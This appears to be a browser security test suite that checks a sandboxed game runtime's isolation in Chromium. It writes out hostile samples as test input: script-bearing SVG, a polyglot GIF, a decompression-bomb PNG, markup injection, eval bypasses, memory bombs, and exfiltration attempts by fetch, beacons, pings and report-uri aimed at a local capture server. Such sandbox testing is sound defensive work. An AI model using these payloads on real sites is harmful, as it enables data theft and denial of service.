// Hostile client code in a real Chromium, framed by a website's page as in real life. What it tries to reach is a server that must hear nothing.
// The rows are those of the attack catalogue. Each thing that is denied has its allowed twin: the same channel works where it should.
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { crc32, deflateSync } from 'node:zlib'
import { launchChromium } from '@sandlot/shared/testing/chromium.ts'
import type { Browser, Page, Worker } from 'playwright-core'
import { afterAll, beforeAll, expect, it, vi } from 'vitest'
import { startWired, type WiredHost } from './testing/wired.ts'

vi.setConfig({ testTimeout: 180_000 })
const WAIT = { timeout: 60_000, interval: 20 }
const SERVER = `
  export const setup = () => ({ count: 0 })
  export const actions = { count(state, player, data) { state.count += data } }`

let browser: Browser
let host: WiredHost
let page: Page
let siteUrl: string
let captureUrl: string
const heard: string[] = []
const siteHeard: string[] = []
const stack = new AsyncDisposableStack()

beforeAll(async () => {
  browser = await launchChromium(
    '--site-per-process', // as browsers on desktops are
    '--js-flags=--max-old-space-size=256', // a bomb fills its process before it fills the machine
  )
  stack.defer(() => browser.close())
  const listen = async (answer: Parameters<typeof createServer>[1]) => {
    const server = createServer(answer).listen(0, '127.0.0.1')
    server.on('upgrade', (request, socket) => {
      heard.push(`upgrade ${request.url}`)
      socket.destroy()
    })
    await once(server, 'listening')
    stack.defer(() => new Promise((done) => server.close(() => done())))
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  }
  captureUrl = await listen((request, response) => {
    heard.push(`${request.method} ${request.url}`)
    response.setHeader('access-control-allow-origin', '*')
    response.end('0')
  })
  siteUrl = await listen((request, response) => {
    siteHeard.push(request.url!)
    response.setHeader('content-type', 'text/html')
    const game = new URL(request.url!, 'http://site').searchParams.get('game')
    response.end(
      `<title>site</title><iframe sandbox="allow-scripts" referrerpolicy="no-referrer" allow="gamepad *" width="400" height="300" src="${game}"></iframe>`,
    )
  })
  const files = { 'server.js': SERVER, 'client.js': 'gameAPI.log("empty")', ...tricks(captureUrl) }
  host = stack.use(await startWired(files, '--site', siteUrl))
  page = await (await browser.newContext()).newPage()
  await page.addInitScript(() => {
    if (window.parent !== window) return
    const told: unknown[] = []
    addEventListener('message', ({ data, ports }) => {
      if (data?.type !== 'READY') {
        told.push({ outside: data })
        return
      }
      ports[0]!.onmessage = (event) => told.push(event.data)
      ports[0]!.postMessage({ type: 'TICKET', ticket: 'the open host asks for none' })
      Object.assign(window, { port: ports[0] })
    })
    Object.assign(window, { told })
  })
  await page.goto(`${siteUrl}/?game=${host.url}`)
  await vi.waitFor(() => expect(page.workers()).toHaveLength(1), WAIT)
}, 120_000)
afterAll(() => stack.disposeAsync(), 120_000)

/** Assets that are not what they seem. */
function tricks(url: string): Record<string, string | Uint8Array> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">
    <script>fetch('${url}/svg-script'); document.documentElement.setAttribute('data-ran', 'yes')</script>
    <image href="${url}/svg-image" width="9" height="9"/><rect width="40" height="40" fill="#00ff00" onload="fetch('${url}/svg-load')"/></svg>`
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data])
    const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
    size.writeUInt32BE(data.length)
    sum.writeUInt32BE(crc32(body))
    return Buffer.concat([size, body, sum])
  }
  const side = 30_000
  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0]) // one bit a pixel, grey
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  const pixels = deflateSync(Buffer.alloc(side * (1 + Math.ceil(side / 8))), { level: 1 })
  const png = Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))])
  const wav = Buffer.alloc(4_000_000, 128)
  wav.write('RIFF\xff\xff\xff\x7fWAVEfmt \x10\0\0\0\x01\0\x01\0', 0, 'latin1')
  wav.writeUInt32LE(3_000, 24) // samples a second: 20 minutes of them
  wav.writeUInt32LE(3_000, 28)
  wav.write('\x01\0\x08\0data', 32, 'latin1')
  wav.writeUInt32LE(1_000_000_000, 40)
  return {
    'assets/evil.svg': svg,
    'assets/huge.png': png,
    'assets/long.wav': wav,
    'assets/poly.gif': 'GIF89a/*\x01\x00\x01*/=0;globalThis.poly=1',
    'assets/page.png': `<!doctype html><script>fetch('${url}/sniffed')</script>`,
  }
}

const told = () =>
  page.evaluate(() => Reflect.get(window, 'told') as { type: string; text?: string; problem?: { message: string } }[])
const worker = (): Worker => page.workers().at(-1)!
const frame = () => page.frames()[1]!
/** Saves the code and waits until it runs. */
async function run(code: string): Promise<void> {
  const old = page.workers().at(-1)
  await host.save('client.js', `${code}\nglobalThis.done = true // ${Math.random()}`)
  await vi.waitFor(async () => {
    const now = page.workers().at(-1)
    expect(now !== undefined && now !== old, host.output().slice(-500)).toBe(true)
    expect(await now!.evaluate(() => Reflect.get(self, 'done'))).toBe(true)
  }, WAIT)
}
/** The frame's document goes, and the game's page is opened in it anew. */
async function reopen(): Promise<void> {
  const old = new Set(page.workers())
  await page.evaluate((url) => {
    document.querySelector('iframe')!.src = url
  }, host.url)
  await vi.waitFor(async () => {
    expect(old.has(worker())).toBe(false)
    expect(await worker().evaluate(() => gameAPI.getFrame())).toBeGreaterThan(0)
  }, WAIT)
}
const count = () => worker().evaluate(() => (gameAPI.getState() as { count: number }).count)
/** The game still plays: its action reaches the server, and the new state comes back and is seen by its callback. */
async function plays(): Promise<void> {
  const before = await count()
  await worker().evaluate(() => gameAPI.send('count', 1))
  await vi.waitFor(async () => expect(await count()).toBe(before + 1), WAIT)
}
const read = (name: string) => worker().evaluate((key) => Reflect.get(self, key), name)

it('the capture server hears what is allowed to reach it', async () => {
  await page.evaluate((url) => fetch(`${url}/from-the-site`), captureUrl)
  expect(heard).toContain('GET /from-the-site')
  heard.length = 0
})

it('[B01 B02 B03 B04 B05 B25] what a game has no use for is not defined, and says so by its name', async () => {
  await run(`
    const tries = {
      fetch: () => fetch('${captureUrl}/fetch'),
      XMLHttpRequest: () => new XMLHttpRequest(),
      WebSocket: () => new WebSocket('${captureUrl.replace('http', 'ws')}/socket'),
      EventSource: () => new EventSource('${captureUrl}/events'),
      WebTransport: () => new WebTransport('${captureUrl}'),
      importScripts: () => importScripts('${captureUrl}/script'),
      Worker: () => new Worker('data:text/javascript,0'),
      SharedWorker: () => new SharedWorker('data:text/javascript,0'),
      localStorage: () => localStorage.setItem('test', 'data'),
      sessionStorage: () => sessionStorage.length,
      indexedDB: () => indexedDB.open('x'),
      caches: () => caches.open('x'),
      cookieStore: () => cookieStore.getAll(),
      navigator: () => navigator.sendBeacon('${captureUrl}/beacon'),
      BroadcastChannel: () => new BroadcastChannel('x'),
      MessageChannel: () => new MessageChannel(),
      postMessage: () => postMessage({ type: 'HEARTBEAT', frame: 1 }),
      document: () => document.cookie,
      window: () => window.top,
      parent: () => parent.location,
      location: () => location.href,
      RTCPeerConnection: () => new RTCPeerConnection(),
      Notification: () => Notification.requestPermission(),
      close: () => close(),
    }
    globalThis.answers = {}
    for (const [name, attempt] of Object.entries(tries))
      try { attempt(); answers[name] = 'allowed' } catch (error) { answers[name] = String(error) }`)
  const answers = (await read('answers')) as Record<string, string>
  for (const [name, answer] of Object.entries(answers)) expect(answer).toBe(`ReferenceError: ${name} is not defined`)
  expect(Object.keys(answers).length).toBeGreaterThan(20)
  await plays()
})

it('[B02 B07] no code comes in from elsewhere: not by import, data:, blob: or eval', async () => {
  await run(`
    globalThis.answers = []
    const tries = [
      async () => eval('1'),
      async () => new Function('return 1')(),
      async () => (() => {}).constructor('return 1')(),
      async () => (async () => {}).constructor('return 1')(),
    ]
    for (const attempt of tries) answers.push(await attempt().then(() => 'allowed', (error) => error.name))`)
  expect(await read('answers')).toEqual(['EvalError', 'EvalError', 'EvalError', 'EvalError'])
  // A build with such an import is refused; what gets round that meets the policy.
  for (const url of [`${captureUrl}/module.js`, 'data:text/javascript,0', 'https://example.com/x.js'])
    expect(await worker().evaluate(`import('${url}').then(() => 'allowed', (error) => error.name)`)).toBe('TypeError')
  await plays()
})

it('[B07] a text given to setTimeout is not run, a function is', async () => {
  await run(`
    globalThis.ran = []
    try { setTimeout('ran.push("text")', 0) } catch {}
    setTimeout(() => ran.push('function'), 0)`)
  await vi.waitFor(async () => expect(await read('ran')).toEqual(['function']), WAIT)
})

it('[B20] nothing secret is in the worker: no ticket, no port, no address but that of its own files', async () => {
  await run(`
    const found = new Set(), texts = []
    const visit = (value, depth) => {
      if (typeof value === 'string') texts.push(value)
      if ((typeof value !== 'object' && typeof value !== 'function') || value === null || found.has(value) || depth > 6) return
      found.add(value)
      for (let from = value; from; from = Object.getPrototypeOf(from))
        for (const name of Reflect.ownKeys(from)) {
          const property = Object.getOwnPropertyDescriptor(from, name)
          visit(property.value, depth + 1)
          if (property.get) try { visit(property.get.call(value), depth + 1) } catch {}
        }
    }
    visit(globalThis, 0)
    visit(gameAPI, 0)
    globalThis.objects = found.size
    globalThis.ports = [...found].filter((value) => String(Object.prototype.toString.call(value)).includes('Port')).length
    globalThis.secrets = texts.filter((text) => /ticket|resume|[A-Za-z0-9_-]{60,}/.test(text) && !/=>|function|class/.test(text))
    try { null.x } catch (error) { globalThis.stack = error.stack }`)
  expect(await read('objects')).toBeGreaterThan(200)
  expect(await read('ports')).toBe(0)
  expect(await read('secrets')).toEqual([])
  expect(await read('stack')).toMatch(/client\.js/)
})

it('[B17] no answer to a frame can be forged: the code hears no message, has nothing to send one with and no way to the port', async () => {
  await run(`
    globalThis.heard = []
    globalThis.onmessage = (event) => heard.push(event)
    const found = ['postMessage', 'addEventListener', 'dispatchEvent', 'MessagePort', 'MessageEvent', 'Event', 'EventTarget']
    globalThis.ways = found.filter((name) => name in globalThis || name in performance || name in crypto)
    try { structuredClone({ n: 1 }, { transfer: [gameAPI] }) } catch (error) { globalThis.moved = error.name }
    let update = 0
    gameAPI.onUpdate(() => { globalThis.updates = ++update })
    setInterval(() => { globalThis.beats = (globalThis.beats ?? 0) + 1 }, 20)`)
  await vi.waitFor(async () => expect(await read('updates')).toBeGreaterThan(20), WAIT)
  expect(await read('beats')).toBeGreaterThan(0)
  expect(await read('heard')).toEqual([])
  expect(await read('ways')).toEqual([])
  expect(await read('moved')).toMatch(/Error$/)
  await plays()
})

it('[B10] textures without number, texts and canvases without size are refused with a reason, and the site’s page answers', async () => {
  await run(`
    const tried = (make) => { try { make() } catch {} }
    for (let i = 0; i < 300; i++) tried(() => gameAPI.createText('W'.repeat(2000), 0, 0, { size: 512 }))
    for (let i = 0; i < 20; i++) tried(() => gameAPI.createCanvas(0, 0, 4096, 4096))
    tried(() => gameAPI.createCanvas(0, 0, 1e9, 1e9))
    let n = 0
    gameAPI.onUpdate(() => {
      for (let i = 0; i < 200; i++) gameAPI.createSprite('kind' + n++, 0, 0, { tint: n % 0xffffff, scale: 1e9 }).destroy()
      globalThis.kinds = n
    })`)
  await vi.waitFor(async () => expect(await read('kinds')).toBeGreaterThan(10_000), WAIT)
  const texts = (await told()).map(({ text }) => text).join('\n')
  expect(texts).toMatch(/all texts together are too large/)
  expect(texts).toMatch(/all canvases together have more than/)
  expect(await page.evaluate(() => new Promise((done) => setTimeout(() => done('answers'), 0)))).toBe('answers')
  await plays()
})

it('[B10] a picture that is taken away again and again is told, and nothing is started anew for it', async () => {
  await run('gameAPI.createRect(10, 10, 5, 5)')
  const game = worker()
  const note = frame().locator('#note')
  const lose = (state: 'lost' | 'restored') =>
    frame().evaluate((which) => {
      document.querySelector('canvas')!.dispatchEvent(new Event(`webglcontext${which}`))
    }, state)
  await lose('lost')
  await note.filter({ hasText: 'comes back by itself' }).waitFor()
  await lose('restored')
  await note.waitFor({ state: 'hidden' })
  for (let i = 0; i < 5; i++) await lose('lost')
  await note.filter({ hasText: 'The graphics card keeps taking the picture away' }).waitFor()
  expect(worker()).toBe(game)
  await plays()
})

it('[B22] assets that are not what they seem: no script of an image runs, nothing too large is decoded, no type is guessed', async () => {
  await run(`
    for (const name of ['evil', 'huge', 'page', 'poly']) gameAPI.createSprite(name, 20, 20)
    gameAPI.playSound('long')
    try { null.x } catch ({ stack }) { globalThis.where = /http\\S+\\/build\\/\\w+\\//.exec(stack)[0] }`)
  const build = String(await read('where'))
  const log = async () => (await told()).map(({ text }) => text).join('\n')
  await vi.waitFor(async () => {
    expect(await log()).toMatch(/The image "huge" .* cannot be shown: it is (30000 by 30000 pixels|no image)/)
    expect(await log()).toMatch(/The image "page" .* cannot be shown: it is no image/)
  }, WAIT)
  expect(await log()).not.toMatch(/The image "evil"/) // which is drawn, without what is active in it
  const imported = (file: string) =>
    worker().evaluate(`import('${build}${file}').then(() => 'allowed', (error) => error.name)`)
  expect(await imported('assets/poly.gif')).toBe('TypeError')
  expect(await worker().evaluate(() => Reflect.has(self, 'poly'))).toBe(false)
  expect(await imported('client.js')).toBe('allowed')
  const tab = await page.context().newPage()
  for (const [file, type] of Object.entries({ 'evil.svg': 'image/svg+xml', 'page.png': 'image/png' })) {
    const headers = (await tab.goto(`${build}assets/${file}`))!.headers()
    expect(headers).toMatchObject({ 'content-type': type, 'x-content-type-options': 'nosniff' })
    expect(headers['content-security-policy']).toMatch(/default-src 'none'; sandbox/)
  }
  await tab.goto(`${build}assets/evil.svg`)
  expect(await tab.evaluate(() => document.documentElement.getAttribute('data-ran'))).toBeNull()
  await tab.close()
  await plays()
})

it('[B26] the game has a process of its own, which the site’s page does not share', async () => {
  const session = await browser.newBrowserCDPSession()
  const { targetInfos } = await session.send('Target.getTargets')
  await session.detach()
  const kinds = (url: string) => targetInfos.filter((target) => target.url.startsWith(url)).map(({ type }) => type)
  expect(kinds(host.url)).toContain('iframe') // listed as a target only when it is in another process than its parent
  expect(kinds(siteUrl)).toEqual(['page'])
})

it('[B06 B21] a flood of commands is cut and counted, and the page stays usable', async () => {
  await run(`
    const paper = gameAPI.createCanvas(0, 0, 100, 100)
    const text = gameAPI.createText('<img src=${captureUrl}/markup onerror=alert(1)>', 0, 0)
    gameAPI.onUpdate(() => {
      for (let i = 0; i < 20_000; i++) gameAPI.setBackground(i % 2 ? '#000000' : '#111111')
      for (let i = 0; i < 300; i++) gameAPI.send('count', 0)
    })`)
  const slowest = await page.evaluate(async () => {
    let worst = 0
    for (let i = 0; i < 30; i++) {
      const from = performance.now()
      await new Promise((done) => setTimeout(done, 0))
      worst = Math.max(worst, performance.now() - from)
    }
    return worst
  })
  expect(slowest).toBeLessThan(2_000) // it is the site's own page that must answer; a busy machine alone takes some of it
  await vi.waitFor(async () => {
    const stats = (await told()).findLast(({ type }) => type === 'STATS') as unknown as { dropped: number }
    expect(stats.dropped).toBeGreaterThan(100)
  }, WAIT)
  await vi.waitFor(async () => {
    const told60 = 'gameAPI: something was ignored: the game sent more than 60 actions a second'
    expect((await told()).map(({ text }) => text)).toContain(told60)
  }, WAIT)
})

it('[B18] what other windows say to the runtime is ignored and counted, and what is said on its port is heard', async () => {
  await run('gameAPI.log("listening")')
  await page.evaluate(() => {
    const game = document.querySelector('iframe')!.contentWindow!
    for (const data of [{ type: 'PAUSE' }, { type: '__proto__' }, 'x', null]) game.postMessage(data, '*')
    const port = Reflect.get(window, 'port') as MessagePort
    port.postMessage(JSON.parse('{"type":"PAUSE","__proto__":{"type":"LEAVE"}}'))
    port.postMessage({ type: 'RESUME' })
    port.postMessage({ type: 'UNKNOWN' })
  })
  await plays()
  await vi.waitFor(async () => {
    const stats = (await told()).findLast(({ type }) => type === 'STATS') as unknown as { ignored: number }
    expect(stats.ignored).toBeGreaterThanOrEqual(5)
  }, WAIT)
  expect((await told()).filter((message) => 'outside' in message)).toEqual([])
})

it('[B18] a flood from the page is dropped and counted, and the game plays on', async () => {
  await page.evaluate(() => {
    const port = Reflect.get(window, 'port') as MessagePort
    for (let i = 0; i < 20_000; i++) port.postMessage({ type: 'PLAYER_INPUT', keys: ['left'] })
    port.postMessage({ type: 'PLAYER_INPUT', keys: [] })
  })
  await vi.waitFor(async () => {
    const stats = (await told()).findLast(({ type }) => type === 'STATS') as unknown as { ignored: number }
    expect(stats.ignored).toBeGreaterThan(10_000)
  }, WAIT)
  await plays()
})

it('PLAYER_INPUT holds keys, STATE_UPDATE shows another state, WATCH tells both, LOAD_CODE ends it', async () => {
  await run('gameAPI.onState((state) => { globalThis.shown = state.count })')
  const say = (message: object) =>
    page.evaluate((data) => (Reflect.get(window, 'port') as MessagePort).postMessage(data), message)
  await vi.waitFor(async () => {
    await say({ type: 'WATCH', input: true, state: true }) // after the flood above, a message may be one too many
    await say({ type: 'PLAYER_INPUT', keys: ['left'] })
    expect(await worker().evaluate(() => gameAPI.keys.left)).toBe(1)
    expect(await told()).toContainEqual(expect.objectContaining({ type: 'INPUT', keys: ['left'] }))
  }, WAIT)
  await say({ type: 'PLAYER_INPUT', keys: [] })
  await vi.waitFor(async () => expect(await worker().evaluate(() => gameAPI.keys.left)).toBe(0), WAIT)
  await say({ type: 'STATE_UPDATE', state: { count: 1234 } })
  await vi.waitFor(async () => expect(await read('shown')).toBe(1234), WAIT)
  const old = worker()
  await say({ type: 'LOAD_CODE' })
  await vi.waitFor(async () => {
    expect(worker() !== old && (await read('done'))).toBe(true)
    expect(await read('shown')).not.toBe(1234)
  }, WAIT)
  await plays()
  await vi.waitFor(async () => expect((await told()).some(({ type }) => type === 'STATE')).toBe(true), WAIT)
})

it('[B11 B12 B13 B14 B24 B25] the runtime’s own document could not leave either: no permission, no way up, no request', async () => {
  const answers = await frame().evaluate(async (url) => {
    const tried = async (attempt: () => unknown) => {
      try {
        await attempt()
        return 'allowed'
      } catch (error) {
        return (error as Error).name
      }
    }
    const load = (tag: 'img' | 'script' | 'link' | 'iframe' | 'object', name: string) => {
      const element = document.createElement(tag) as HTMLImageElement & HTMLLinkElement & HTMLObjectElement
      if (tag === 'link') Object.assign(element, { rel: name === 'css' ? 'stylesheet' : name, href: `${url}/${name}` })
      else if (tag === 'object') element.data = `${url}/object`
      else element.src = `${url}/${name}`
      document.head.append(element)
    }
    for (const tag of ['img', 'script', 'iframe', 'object'] as const) load(tag, tag)
    for (const name of ['css', 'prefetch', 'preload', 'icon', 'modulepreload', 'dns-prefetch', 'preconnect'])
      load('link', name)
    document.body.style.backgroundImage = `url(${url}/css-url)`
    navigator.sendBeacon(`${url}/beacon`)
    return {
      origin: self.origin,
      fetch: await tried(() => fetch(`${url}/fetch`)),
      storage: await tried(() => localStorage.length),
      cookie: await tried(() => document.cookie),
      database: await tried(() => indexedDB.open('x')),
      top: await tried(() => top!.location.href),
      parent: await tried(() => parent.document),
      navigate: await tried(() => {
        top!.location.href = `${url}/top`
      }),
      popup: String(window.open(`${url}/popup`)),
      referrer: document.referrer,
      camera: await tried(() => navigator.mediaDevices.getUserMedia({ video: true })),
      place: await new Promise((done) =>
        navigator.geolocation.getCurrentPosition(
          () => done('allowed'),
          () => done('denied'),
        ),
      ),
      form: await tried(() => {
        const form = document.createElement('form')
        form.action = `${url}/form`
        document.body.append(form)
        form.submit()
      }),
    }
  }, captureUrl)
  expect(answers).toEqual({
    origin: 'null',
    fetch: 'TypeError',
    storage: 'SecurityError',
    cookie: 'SecurityError',
    database: 'SecurityError',
    top: 'SecurityError',
    parent: 'SecurityError',
    navigate: 'SecurityError',
    popup: 'null',
    referrer: '',
    camera: expect.not.stringContaining('allowed'),
    place: 'denied',
    form: 'allowed', // the call itself; the sandbox swallows it
  })
  expect(page.url()).toContain(siteUrl)
  expect(page.context().pages()).toHaveLength(1)
})

it('[B11 B23] after a click of the player, too, the game takes neither screen, pointer, clipboard nor attention', async () => {
  await page.mouse.click(100, 100)
  const answers = await frame().evaluate(async () => {
    const tried = async (attempt: () => unknown) => {
      try {
        return (await attempt()) ?? 'allowed'
      } catch (error) {
        return (error as Error).name
      }
    }
    const pointer = () =>
      new Promise((done) => {
        document.addEventListener('pointerlockerror', () => done('denied'))
        document.addEventListener('pointerlockchange', () => done('allowed'))
        Promise.resolve(document.body.requestPointerLock()).catch(() => done('denied'))
      })
    return {
      active: navigator.userActivation.hasBeenActive, // the click was one, so that nothing is refused for the want of it
      screen: await tried(() => document.documentElement.requestFullscreen()),
      pointer: await pointer(),
      write: await tried(() => navigator.clipboard.writeText('x')),
      read: await tried(() => navigator.clipboard.readText()),
      notify: await tried(() => Notification.requestPermission()),
      dialog: await tried(() => String(prompt('password?'))),
    }
  })
  expect(answers).toEqual({
    active: true,
    screen: 'TypeError',
    pointer: 'denied',
    write: 'NotAllowedError',
    read: 'NotAllowedError',
    notify: expect.not.stringMatching('granted'),
    dialog: 'null',
  })
  // It is the site that could: what is refused above is refused to the frame, not by the browser.
  expect(await page.evaluate(() => document.documentElement.requestFullscreen().then(() => 'allowed'))).toBe('allowed')
  await page.evaluate(() => document.exitFullscreen())
})

it('[B15] what a page may leave behind when it goes is not sent either: beacons, speculation, reports, pings', async () => {
  await frame().evaluate((url) => {
    const add = (tag: string, more: Record<string, string>, text = '') => {
      const element = Object.assign(document.createElement(tag), { textContent: text })
      for (const [name, value] of Object.entries(more)) element.setAttribute(name, value)
      document.head.append(element)
      return element
    }
    add(
      'script',
      { type: 'speculationrules' },
      JSON.stringify({ prefetch: [{ urls: [`${url}/prefetch`] }], prerender: [{ urls: [`${url}/prerender`] }] }),
    )
    add('meta', { 'http-equiv': 'Content-Security-Policy', content: `img-src 'none'; report-uri ${url}/report` })
    add('meta', { 'http-equiv': 'refresh', content: `9;url=${url}/refresh` })
    add('a', { href: '#', ping: `${url}/ping` }).click()
    new Image().src = `${url}/violation`
    addEventListener('pagehide', () => {
      navigator.sendBeacon(`${url}/pagehide-beacon`)
      void fetch(`${url}/keepalive`, { keepalive: true }).catch(() => {})
    })
  }, captureUrl)
  await reopen()
  await plays()
})

it('[B09] a game that fills its memory loses its worker or its process: the site’s page lives, hears of it or misses the heartbeats, and has it again', async () => {
  // For one more player only, in a page that tells the site's server what it sees: to the test's own driver it has crashed.
  const context = await browser.newContext()
  const other = await context.newPage()
  await other.addInitScript(() => {
    if (window.parent !== window) return
    let beatAt = Number.POSITIVE_INFINITY
    addEventListener('message', ({ ports }) => {
      beatAt = performance.now() // a game may die before its first heartbeat
      ports[0]!.onmessage = ({ data }) => {
        if (data.type === 'HEARTBEAT') beatAt = performance.now()
        if (data.type === 'LOG') void fetch(`/told?${encodeURIComponent(data.text)}`)
        if (data.type === 'ERROR') void fetch(`/told?${encodeURIComponent(data.problem.message)}`)
      }
      ports[0]!.postMessage({ type: 'TICKET', ticket: 'the open host asks for none' })
    })
    setInterval(() => {
      if (performance.now() - beatAt < 3_000) return
      beatAt = Number.POSITIVE_INFINITY
      void fetch('/told?silent')
      const game = document.querySelector('iframe')!
      game.src = String(game.src)
    }, 100)
  })
  siteHeard.length = 0
  const me = await worker().evaluate(() => gameAPI.me.id)
  const heardBySite = (text: string) =>
    vi.waitFor(() => expect(siteHeard.map(decodeURIComponent)).toContain(`/told?${text}`), WAIT)
  await run(`
    const isGuest = gameAPI.me.id !== '${me}'
    gameAPI.log('plays as', isGuest ? 'guest' : 'host')
    const all = []
    gameAPI.onUpdate(() => {
      if (isGuest && gameAPI.getFrame() > 20) for (let i = 0; i < 100; i++) all.push(new Array(100_000).fill(i + 0.5))
    })`)
  await other.goto(`${siteUrl}/?game=${host.url}`)
  await heardBySite('plays as guest')
  // Its process dies, or collects garbage for so long that the watchdog stops the worker.
  const isOver = /^\/told\?(silent|client\.js did not come back for 5 seconds)/m
  await vi.waitFor(() => expect(siteHeard.map(decodeURIComponent).join('\n')).toMatch(isOver), WAIT)
  await run(`gameAPI.log('harmless for', gameAPI.me.id === '${me}' ? 'host' : 'guest')`)
  await heardBySite('harmless for guest')
  await plays() // the first player's, all the time
  await context.close()
})

it('[B13] and when all is done, the capture server has heard nothing', async () => {
  await page.evaluate((url) => fetch(`${url}/last`), captureUrl) // whatever went before it has arrived by now
  expect(heard).toEqual(['GET /last'])
})
